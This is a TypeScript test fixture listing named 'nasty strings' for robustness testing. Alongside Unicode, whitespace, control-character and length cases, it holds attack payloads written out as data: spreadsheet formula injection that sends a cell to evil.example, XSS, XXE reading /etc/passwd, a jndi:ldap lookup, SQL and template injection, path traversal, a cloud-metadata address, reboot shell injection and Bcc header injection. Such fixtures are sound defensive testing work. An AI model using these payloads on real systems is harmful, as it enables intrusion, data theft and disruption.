/** Texts that break things elsewhere, each under the name a failure is told by. Written with escapes: what can't be seen must not depend on an editor. */
const formulas = {
  'a formula': '=1+1',
  'a formula with a plus': '+1+1',
  'a formula with a minus': '-1+1',
  'a formula with an at': '@SUM(A1:A9)',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a carriage return': '\r=1+1',
  'a formula behind a space': ' =1+1',
  'a DDE call': "=cmd|' /C calc'!A0",
  'a hyperlink formula': '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  'a formula in full width': '\uff1d1+1',
  'CSV of its own': 'a","b"\r\n"c","d',
  'a lone quote': '"',
  'semicolons and tabs': 'a;b\tc;d',
};

const markup = {
  'a script': '<script>alert(1)</script>',
  'a script that closes a tag first': '"></textarea><script>alert(1)</script>',
  'an image with a handler': '<img src=x onerror=alert(1)>',
  'an SVG with a handler': '<svg/onload=alert(1)>',
  'a script address': 'javascript:alert(1)',
  'a data address': 'data:text/html,<script>alert(1)</script>',
  'entities': '&lt;b&gt; &amp; &#x3c;script&#x3e; &nbsp;',
  'half an entity': 'AT&T &amp',
  'a comment': '<!-- ]]> --><![CDATA[x]]>',
  'an XML entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'a style': '<style>*{display:none}</style>',
  'Markdown': '[a](javascript:alert(1)) **b** `c` # d',
  'quotes of every kind': `'"\u2018\u2019\u201c\u201d\u00ab\u00bb\u0060\u00b4`,
};

const templates = {
  'a merge field': '{{ company.name }}',
  'a template tag': '{% for i in (1..100000000) %}x{% endfor %}',
  'half a template': '{{ }} {% %} {{{',
  'an expression': '${7*7} #{7*7} <%= 7*7 %>',
  'a lookup': '${jndi:ldap://evil.example/a}',
  'a prototype': '{{constructor.constructor("return process")()}}',
  'a Typst function': '#read("/etc/passwd") #import "x"',
  'a format string': '%s%s%n %d {0} {name!r}',
};

const queries = {
  'an end of a statement': "'; drop table jobs; --",
  'an always true': "' or '1'='1",
  'a wildcard': '%_%',
  'an escaped wildcard': '\\%\\_',
  'a lone backslash': '\\',
  'backslashes': 'C:\\new\\table\\0',
  'a dollar quote': '$$; select pg_sleep(5); $$',
  'JSON': '{"$ne":null,"__proto__":{"admin":true}}',
  'an array': '{1,2,"a b",NULL}',
  'an operator': '[$like]',
  'a bind': ':id ?1 $1 %1$s',
};

const words = {
  'null': 'null', 'undefined': 'undefined', 'NaN': 'NaN', 'true': 'true', 'zero': '0', 'minus nought': '-0',
  'a prototype’s name': '__proto__',
  'a method’s name': 'constructor', 'another': 'hasOwnProperty',
  'a number too long for a number': '9007199254740993',
  'an exponent': '1e309',
  'a hexadecimal': '0x1F',
  'a date': '2026-02-30',
  'a path': '../../../../etc/passwd',
  'a device': 'CON.txt',
  'an address': 'http://169.254.169.254/latest/meta-data/',
  'a shell': '$(reboot) `reboot` | reboot & ; reboot',
  'Scunthorpe': 'Scunthorpe, Penistone and Lightwater',
};

const headers = {
  'a header': 'x\r\nBcc: evil@evil.example\r\n\r\nHello',
  'a header with a line feed': 'x\nBcc: evil@evil.example',
  'an encoded word': '=?utf-8?q?Bcc=3A_evil=40evil.example?=',
  'an address with a name': '"Ruth" <a@b.example>, c@d.example',
  'a percent line break': 'x%0d%0aSet-Cookie: a=b',
};

const scripts = {
  'accents': 'Zo\u00eb \u00c5ngstr\u00f6m \u0141\u00f3d\u017a',
  'accents taken apart': 'Zoe\u0308 A\u030angstro\u0308m',
  'the same letter in both forms': '\u00e9 e\u0301',
  'Arabic': '\u0645\u0631\u062d\u0628\u0627 \u0628\u0643',
  'Hebrew with numbers': '\u05e9\u05dc\u05d5\u05dd 123 abc',
  'a right-to-left override': 'photo\u202egnp.exe',
  'isolates left open': '\u2066\u2067\u2068abc',
  'marks of direction': '\u200eabc\u200f',
  'Chinese': '\u4f60\u597d\uff0c\u4e16\u754c',
  'Japanese': '\u3053\u3093\u306b\u3061\u306f',
  'Korean': '\uc548\ub155\ud558\uc138\uc694',
  'Thai': '\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35',
  'Devanagari': '\u0928\u092e\u0938\u094d\u0924\u0947',
  'a Turkish i': '\u0130stanbul \u0131',
  'a sharp s': 'STRASSE stra\u00dfe \u1e9e',
  'ligatures': '\ufb01\ufb02 \ufdfd',
  'letters beside their likeness': 'p\u0430yp\u0430l \u0391B\u0421',
  'emoji': '\ud83d\ude00\ud83d\udee0\ufe0f\ud83c\udfe0',
  'a family joined': '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66',
  'a flag and a skin tone': '\ud83c\uddec\ud83c\udde7 \ud83d\udc4d\ud83c\udffd',
  'regional letters left alone': '\ud83c\uddec',
  'many marks on one letter': `Z${'\u0351\u036f\u0321'.repeat(40)}`,
  'letters beyond the first plane': '\ud835\udcd7\ud835\udcee\ud835\udcf5\ud835\udcf5\ud835\udcf8 \ud840\udc00',
  'letters for private use': '\ue000\uf8ff',
  'what is no character': '\ufffe\uffff\ufdd0',
  'a replacement': '\ufffd',
};

const whitespace = {
  'a space': ' ',
  'spaces at both ends': '  both ends  ',
  'spaces within': 'a  b   c',
  'no-break spaces': '\u00a0a\u00a0\u202fb\u00a0',
  'an ideographic space': '\u3000a\u3000',
  'no width at all': '\u200b\u200c\u200d\u2060',
  'a byte order mark': '\ufeffabc\ufeff',
  'a soft hyphen': 'co\u00adoperate',
  'a tab and a vertical tab': 'a\tb\vc',
  'lines': 'one\ntwo\n\nfour\n',
  'lines of Windows': 'one\r\ntwo\r\n',
  'carriage returns': 'one\rtwo\r',
  'separators of lines': 'one\u2028two\u2029three\u0085four',
  'a form feed': 'one\ftwo',
};

const controls = {
  'a bell and an escape': '\u0007\u001b[31mred\u001b[0m',
  'a backspace': 'abc\b\b\bxyz',
  'controls of the second set': '\u0080\u009b\u009f',
  'a delete': 'a\u007fb',
  'language tags': '\u{e0041}\u{e0042}',
  'a zero byte': 'a\0b',
  'nothing but a zero byte': '\0',
  'half a character, first': 'a\ud800b',
  'half a character, second': '\udc00',
  'halves in the wrong order': '\udc00\ud800',
};

const lengths = {
  'nothing': '',
  'one letter': 'x',
  'as long as a line may be': 'x'.repeat(200),
  'one letter too long for a line': 'x'.repeat(201),
  'as many emoji as a line has places': '\ud83d\ude00'.repeat(100),
  'one very long word': 'Pneumono'.repeat(125),
  'as long as a text may be': 'y'.repeat(10_000),
  'one letter too long for a text': 'y'.repeat(10_001),
  'a hundred kilobytes': 'z'.repeat(100 * 1024),
  'a hundred kilobytes of emoji': '\ud83c\udfe0'.repeat(25 * 1024),
};

/** Every nasty text with its name. */
export const nastyStrings: readonly (readonly [name: string, text: string])[] = Object.entries({
  ...formulas, ...markup, ...templates, ...queries, ...words, ...headers, ...scripts, ...whitespace, ...controls, ...lengths,
});
